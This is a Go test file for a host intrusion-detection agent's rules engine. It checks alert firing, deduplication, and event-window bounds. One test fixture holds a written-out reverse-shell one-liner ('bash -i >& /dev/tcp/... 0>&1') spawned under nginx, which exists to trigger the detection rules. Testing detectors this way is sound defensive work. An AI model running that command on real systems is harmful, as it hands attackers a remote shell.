package rules

import (
	"context"
	"net/netip"
	"strings"
	"testing"
	"time"

	"github.com/evilbitlabs/daemoneye/capture"
)

func newAgent(t *testing.T, cfg AgentConfig, got *alerts, packs ...*Pack) *AgentEngine {
	t.Helper()
	if cfg.Host == "" {
		cfg.Host = "web-1"
	}
	a, err := NewAgentEngine(context.Background(), cfg, got.add, nil, packs...)
	if err != nil {
		t.Fatalf("NewAgentEngine: %v", err)
	}
	t.Cleanup(func() { a.Close() })
	for _, s := range a.Engine().Status() {
		if s.Disabled {
			t.Fatalf("agent rule %s disabled: %s", s.ID, s.LastError)
		}
	}
	return a
}

func TestAgentEngineFires(t *testing.T) {
	got := &alerts{}
	a := newAgent(t, AgentConfig{}, got, mustDefault(t))
	for _, s := range a.Engine().Status() {
		if s.ID == "shell-runs-transfer-tool" {
			t.Errorf("a center-only rule runs on the agent")
		}
	}
	nginx := key(50, 5)
	// nginx was running when the agent started.
	if err := a.Seed([]capture.Process{{Key: nginx, Parent: key(1, 1), Comm: "nginx",
		Exec: capture.Exec{Exe: "/usr/sbin/nginx", Argv: []string{"nginx: worker process"}, UID: 33}, Seeded: true, Execed: true}}); err != nil {
		t.Fatalf("Seed: %v", err)
	}
	ctx := context.Background()
	if err := a.Feed([]capture.Event{
		fork(1e9, key(60, 6), nginx, "nginx"),
		exec(2e9, key(60, 6), nginx, 33, "/usr/bin/dash", "sh", "-c", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"),
		{Time: 3e9, Kind: capture.KindConnect, Proc: key(61, 7), Comm: "bash", Source: "ebpf", Conn: &capture.Conn{Proto: capture.ProtoTCP,
			Src: netip.MustParseAddrPort("[::ffff:10.0.0.5]:40000"), Dst: netip.MustParseAddrPort("[::ffff:203.0.113.7]:4444")}},
		{Time: 4e9, Kind: capture.KindExit, Proc: key(60, 6), Exit: &capture.Exit{Code: 0}},
	}); err != nil {
		t.Fatalf("Feed: %v", err)
	}
	if err := a.Evaluate(ctx); err != nil {
		t.Fatalf("Evaluate: %v", err)
	}
	m := byRule(got.take())
	for _, id := range []string{"webserver-spawns-shell", "reverse-shell-cmdline", "shell-connects-out"} {
		if len(m[id]) != 1 {
			t.Errorf("rule %s alerted %d times, want 1 (all: %v)", id, len(m[id]), m)
		}
	}
	if al := m["shell-connects-out"]; len(al) == 1 && (al[0].Context["dst_ip"] != "203.0.113.7" || al[0].Process != (ProcessKey{"web-1", 61, 7})) {
		t.Errorf("connect alert = %+v (mapped address should be stored unmapped)", al[0])
	}
	if al := m["webserver-spawns-shell"]; len(al) == 1 && al[0].Trace == nil {
		t.Errorf("agent alert lost its trace request")
	}

	// Nothing new: nothing again; the same process matching again is deduplicated.
	if err := a.Feed([]capture.Event{exec(5e9, key(60, 6), nginx, 33, "/usr/bin/bash", "bash")}); err != nil {
		t.Fatal(err)
	}
	if err := a.Evaluate(ctx); err != nil {
		t.Fatal(err)
	}
	if as := got.take(); len(as) != 0 {
		t.Errorf("repeat alerted: %v", as)
	}
	var exit any
	if err := a.db.QueryRow(`SELECT exit_time FROM processes WHERE pid = 60`).Scan(&exit); err != nil || exit != int64(4e9) {
		t.Errorf("process table exit_time = %v (%v)", exit, err)
	}
}

func TestAgentEngineRunLoop(t *testing.T) {
	got := make(chan Alert, 4)
	a, err := NewAgentEngine(context.Background(), AgentConfig{Host: "h", Engine: Config{Interval: time.Hour}},
		func(al Alert) { got <- al }, nil, mustDefault(t))
	if err != nil {
		t.Fatal(err)
	}
	defer a.Close()
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	go a.Run(ctx)
	if err := a.Feed([]capture.Event{exec(1e9, key(9, 9), key(1, 1), 0, "/memfd:x (deleted)")}); err != nil {
		t.Fatal(err)
	}
	select {
	case al := <-got:
		if al.RuleID != "deleted-or-memfd-exe" {
			t.Errorf("alert = %+v", al)
		}
	case <-time.After(5 * time.Second):
		t.Fatal("Feed did not trigger an evaluation")
	}
}

func TestAgentEngineBounds(t *testing.T) {
	got := &alerts{}
	p := &Pack{Name: "p", Rules: []Rule{{ID: "all", Title: "t", Severity: SeverityLow, RunsOn: Agent,
		SQL: "SELECT host, pid, start FROM new_process_events WHERE kind = 'exec'"}}}
	a := newAgent(t, AgentConfig{MaxEventRows: 100, MaxProcesses: 50, Window: time.Minute}, got, p)
	ctx := context.Background()
	feed := func(from, n int, t0 int64) {
		var evs []capture.Event
		for i := from; i < from+n; i++ {
			evs = append(evs, exec(t0+int64(i)*1e6, key(uint32(1000+i), 1), key(1, 1), 0, "/usr/bin/true", "true"))
		}
		if err := a.Feed(evs); err != nil {
			t.Fatal(err)
		}
	}
	// Evaluated as it goes: nothing is lost to the row bound.
	for i := 0; i < 5; i++ {
		feed(i*60, 60, 1e9)
		if err := a.Evaluate(ctx); err != nil {
			t.Fatal(err)
		}
	}
	if n := len(got.take()); n != 300 {
		t.Errorf("alerts = %d, want 300", n)
	}
	s := a.Stats()
	if s.ProcessEvents > 100 || s.Processes > 50 || s.Unevaluated != 0 || s.Evicted != 200 {
		t.Errorf("stats = %+v, want <= 100 events, <= 50 processes, 200 evicted, none unevaluated", s)
	}
	// Fed faster than evaluated: the overflow is counted as unevaluated.
	feed(300, 250, 1e9)
	if s := a.Stats(); s.Unevaluated != 150 {
		t.Errorf("unevaluated = %d, want 150", s.Unevaluated)
	}
	// The time window: one event far in the future pushes everything out.
	feed(600, 1, 1e9+int64(time.Hour))
	if s := a.Stats(); s.ProcessEvents != 1 {
		t.Errorf("after the window moved: %d events, want 1", s.ProcessEvents)
	}
}

func TestAgentEngineHardCap(t *testing.T) {
	p := &Pack{Name: "p", Rules: []Rule{{ID: "all", Title: "t", Severity: SeverityLow, RunsOn: Agent,
		SQL: "SELECT host, pid, start FROM new_process_events"}}}
	a := newAgent(t, AgentConfig{MaxEventRows: 1 << 20, MaxProcesses: 1 << 20, MaxBytes: 1 << 20}, &alerts{}, p)
	long := strings.Repeat("x", 4000)
	for round := 0; round < 20; round++ {
		var evs []capture.Event
		for i := 0; i < 20; i++ {
			pid := uint32(round*20 + i + 10)
			evs = append(evs, exec(int64(round)*1e9+int64(i), key(pid, 1), key(1, 1), 0, "/usr/bin/x", "x", long))
		}
		if err := a.Feed(evs); err != nil {
			t.Fatalf("round %d: Feed: %v", round, err)
		}
	}
	var pages, size int64
	if err := a.db.QueryRow(`SELECT page_count, page_size FROM pragma_page_count, pragma_page_size`).Scan(&pages, &size); err != nil {
		t.Fatal(err)
	}
	if pages*size > 1<<20 {
		t.Errorf("window is %d bytes, over its 1 MiB cap", pages*size)
	}
	if s := a.Stats(); s.Evicted == 0 {
		t.Errorf("stats = %+v: the cap should have evicted", s)
	}
}
